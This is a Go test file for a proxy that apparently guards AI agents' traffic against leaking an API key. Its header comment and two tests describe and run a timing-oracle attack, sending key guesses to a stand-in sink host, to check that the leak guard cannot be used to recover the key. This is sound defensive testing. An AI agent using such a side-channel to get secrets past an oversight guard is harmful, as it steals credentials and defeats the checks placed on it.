package e2e

import (
	"bufio"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// The guards hold back the end of a stream while it could still complete a
// secret. If what they hold back depended on whether the bytes match, an
// agent could send a guess, pause, and watch whether the guess arrives at
// once (wrong) or only after the pause (a true prefix): a full key falls one
// character at a time. These tests run that attack against the binary, in
// zero-config mode with ANTHROPIC_API_KEY set, and require a true prefix and
// a wrong guess of the same length and class to arrive equally late or
// equally early.

const (
	oraclePause = 700 * time.Millisecond
	// oracleSame is how far apart the two arrival times may be: far below
	// the pause, which is the gap an oracle would show, and far above any
	// scheduling noise of a busy CI machine.
	oracleSame = oraclePause / 2
	// oraclePrompt is how late a guess followed by a delimiter may arrive.
	oraclePrompt = 300 * time.Millisecond
)

// oracleSecret is shaped like an Anthropic key: all of it in the token
// class the guards hold back.
func oracleSecret(t *testing.T) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	b := make([]byte, 93)
	for i := range b {
		n, err := rand.Int(rand.Reader, big.NewInt(int64(len(alphabet))))
		if err != nil {
			t.Fatal(err)
		}
		b[i] = alphabet[n.Int64()]
	}
	return "sk-ant-api03-" + string(b) + "AA"
}

// wrongGuess is prefix with its last character changed to a digit: same
// length, same class, and not the beginning of any encoding of the key
// (those begin with 's', 'c', 'L' or 'a').
func wrongGuess(prefix string) string {
	last := byte('7')
	if prefix[len(prefix)-1] == last {
		last = '8'
	}
	return prefix[:len(prefix)-1] + string(last)
}

// attackSession is a zero-config agentvault whose child only publishes its
// proxy and CA and waits: the test is the agent.
type attackSession struct {
	proxy *url.URL
	roots *x509.CertPool
	done  func()
}

func startAttackSession(t *testing.T, secret string, connect ...string) *attackSession {
	t.Helper()
	work := t.TempDir()
	out := filepath.Join(work, "out")
	os.Mkdir(out, 0o755)
	script := `printf '%s\n%s\n' "$HTTPS_PROXY" "$AGENTVAULT_CA" > "$OUT/p.tmp" && mv "$OUT/p.tmp" "$OUT/proxy"
i=0; while [ ! -f "$OUT/done" ] && [ $i -lt 900 ]; do sleep 0.05; i=$((i+1)); done`
	args := []string{"run", "--upstream-ca", testCA.PEMPath, "--audit-log", filepath.Join(work, "audit.jsonl")}
	for _, c := range connect {
		args = append(args, "--connect-to", c)
	}
	p := startAV(t, "", map[string]string{"ANTHROPIC_API_KEY": secret, "OUT": out}, append(args, "--", "sh", "-c", script)...)
	lines := strings.Split(waitForFile(t, filepath.Join(out, "proxy"), 15*time.Second), "\n")
	if len(lines) != 2 {
		t.Fatalf("child published %d lines, want the proxy URL and the CA path", len(lines))
	}
	pu, err := url.Parse(lines[0])
	if err != nil || pu.User == nil {
		t.Fatalf("child's HTTPS_PROXY has no credentials")
	}
	pem, err := os.ReadFile(lines[1])
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(pem) {
		t.Fatal("no session CA in AGENTVAULT_CA")
	}
	s := &attackSession{proxy: pu, roots: roots}
	var once sync.Once
	s.done = func() {
		once.Do(func() {
			os.WriteFile(filepath.Join(out, "done"), nil, 0o644)
			if _, _, code := p.wait(); code != 0 {
				t.Errorf("agentvault exit %d", code)
			}
		})
	}
	t.Cleanup(s.done)
	return s
}

// arrivals records when each byte count of a stream was reached.
type arrivals struct {
	mu    sync.Mutex
	marks map[string][]arrival
}

type arrival struct {
	total int
	at    time.Time
}

func (a *arrivals) add(id string, total int) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.marks == nil {
		a.marks = map[string][]arrival{}
	}
	a.marks[id] = append(a.marks[id], arrival{total, time.Now()})
}

// reached returns when stream id first held at least n bytes.
func (a *arrivals) reached(id string, n int) (time.Time, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, m := range a.marks[id] {
		if m.total >= n {
			return m.at, true
		}
	}
	return time.Time{}, false
}

// readMarking reads r to its end (or 20 s), noting each byte count reached.
func readMarking(r io.Reader, a *arrivals, id string) int {
	buf := make([]byte, 64<<10)
	total := 0
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		n, err := r.Read(buf)
		if n > 0 {
			total += n
			a.add(id, total)
		}
		if err != nil {
			break
		}
	}
	return total
}

// oracleCase is one guess and whether the agent ends its write right after
// it (held: it could go on) or with a newline (a delimiter).
type oracleCase struct {
	k         int // length of the guess
	delimited bool
}

var oracleCases = []oracleCase{{14, false}, {40, false}, {40, true}}

// runOracle measures, for each case, a true prefix and a wrong guess
// (alternately, twice each, keeping the earliest), and checks that the two
// cannot be told apart. measure returns how long after the agent sent it a
// guess reached the other end.
func runOracle(t *testing.T, secret string, measure func(t *testing.T, id, guess, after string) time.Duration) {
	n := 0
	for _, c := range oracleCases {
		name := fmt.Sprintf("k=%d/delimited=%v", c.k, c.delimited)
		t.Run(name, func(t *testing.T) {
			right, wrong := secret[:c.k], wrongGuess(secret[:c.k])
			after := ""
			if c.delimited {
				after = "\n"
			}
			best := map[string]time.Duration{}
			for round := 0; round < 2; round++ {
				for _, g := range []struct{ name, guess string }{{"true prefix", right}, {"wrong guess", wrong}} {
					n++
					d := measure(t, fmt.Sprint("m", n), g.guess, after)
					if old, ok := best[g.name]; !ok || d < old {
						best[g.name] = d
					}
				}
			}
			dr, dw := best["true prefix"], best["wrong guess"]
			t.Logf("true prefix arrived after %v, wrong guess after %v (pause %v)", dr.Round(time.Millisecond), dw.Round(time.Millisecond), oraclePause)
			if diff := (dr - dw).Abs(); diff >= oracleSame {
				t.Errorf("a true prefix and a wrong guess arrive %v apart: the guard is an oracle for the key", diff.Round(time.Millisecond))
			}
			if c.delimited && (dr >= oraclePrompt || dw >= oraclePrompt) {
				t.Errorf("a guess ended by a newline was held back (%v, %v): streams stall at their delimiters", dr, dw)
			}
		})
	}
}

// TestNoPrefixOracleInRequestBody: a chunked plain-HTTP upload of more than
// 1 MiB to a host the agent controls: filler, a guess at the end of a
// chunk, a pause, the rest. The leak guard must pass a true prefix of the
// key on exactly as it passes a wrong guess.
func TestNoPrefixOracleInRequestBody(t *testing.T) {
	needBinary(t)
	secret := oracleSecret(t)
	sink := &arrivals{}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{ReadHeaderTimeout: 10 * time.Second, ErrorLog: quietLog,
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			readMarking(r.Body, sink, r.URL.Query().Get("id"))
			io.WriteString(w, "ok\n")
		})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	s := startAttackSession(t, secret, connectTo("sink.example.test", 80, ln.Addr().(*net.TCPAddr).Port))

	filler := []byte(strings.Repeat("a line of filler the agent uploads, nothing secret in it\n", (1<<20)/57+64))
	runOracle(t, secret, func(t *testing.T, id, guess, after string) time.Duration {
		c, err := net.DialTimeout("tcp", s.proxy.Host, 5*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(20 * time.Second))
		pass, _ := s.proxy.User.Password()
		fmt.Fprintf(c, "POST http://sink.example.test/collect?id=%s HTTP/1.1\r\nHost: sink.example.test\r\n"+
			"Proxy-Authorization: Basic %s\r\nTransfer-Encoding: chunked\r\nContent-Type: text/plain\r\n\r\n",
			id, b64(s.proxy.User.Username()+":"+pass))
		chunk := func(b []byte) {
			if _, err := fmt.Fprintf(c, "%x\r\n%s\r\n", len(b), b); err != nil {
				t.Fatalf("writing to the proxy: %v", err)
			}
		}
		for off := 0; off < len(filler); off += 64 << 10 {
			chunk(filler[off:min(off+64<<10, len(filler))])
		}
		// The guess goes out only once the filler is through, so that
		// nothing but the guard stands between it and the sink.
		for i := 0; i < 400; i++ {
			if _, ok := sink.reached(id, len(filler)); ok {
				break
			}
			time.Sleep(10 * time.Millisecond)
		}
		if _, ok := sink.reached(id, len(filler)); !ok {
			t.Fatal("the filler never reached the sink")
		}
		chunk([]byte(guess + after))
		sent := time.Now()
		time.Sleep(oraclePause)
		chunk([]byte("\nthe rest of the upload\n"))
		io.WriteString(c, "0\r\n\r\n")
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatalf("reading the response: %v", err)
		}
		res.Body.Close()
		if res.StatusCode != 200 {
			t.Fatalf("upload answered %d", res.StatusCode)
		}
		at, ok := sink.reached(id, len(filler)+len(guess))
		if !ok {
			t.Fatal("the guess never reached the sink")
		}
		return at.Sub(sent)
	})
	s.done()
}

// TestNoPrefixOracleInStreamedResponse: a bound host (api.anthropic.com,
// MITM'd) streams back text the agent chose: filler, the guess, a pause,
// the rest. The reflection guard must pass a true prefix of the key on
// exactly as it passes a wrong guess.
func TestNoPrefixOracleInStreamedResponse(t *testing.T) {
	needBinary(t)
	secret := oracleSecret(t)
	var mu sync.Mutex
	flushed := map[string]time.Time{}
	filler := strings.Repeat("data: filler event the upstream streams\n", 1000)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{ReadHeaderTimeout: 10 * time.Second, ErrorLog: quietLog,
		TLSNextProto: map[string]func(*http.Server, *tls.Conn, http.Handler){},
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			q := r.URL.Query()
			w.Header().Set("Content-Type", "text/plain")
			io.WriteString(w, filler+q.Get("echo"))
			w.(http.Flusher).Flush()
			mu.Lock()
			flushed[q.Get("id")] = time.Now()
			mu.Unlock()
			time.Sleep(oraclePause)
			io.WriteString(w, "\nthe rest of the stream\n")
		})}
	go srv.Serve(tls.NewListener(ln, testCA.serverTLS()))
	t.Cleanup(func() { srv.Close() })
	s := startAttackSession(t, secret, connectTo("api.anthropic.com", 443, ln.Addr().(*net.TCPAddr).Port))
	client := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{
		Proxy:              http.ProxyURL(s.proxy),
		TLSClientConfig:    &tls.Config{RootCAs: s.roots},
		DisableCompression: true,
	}}
	got := &arrivals{}
	runOracle(t, secret, func(t *testing.T, id, guess, after string) time.Duration {
		res, err := client.Get("https://api.anthropic.com/v1/echo?id=" + id + "&echo=" + url.QueryEscape(guess+after))
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		total := readMarking(res.Body, got, id)
		if res.StatusCode != 200 || total < len(filler)+len(guess) {
			t.Fatalf("status %d, %d bytes", res.StatusCode, total)
		}
		at, _ := got.reached(id, len(filler)+len(guess))
		mu.Lock()
		defer mu.Unlock()
		return at.Sub(flushed[id])
	})
	s.done()
}
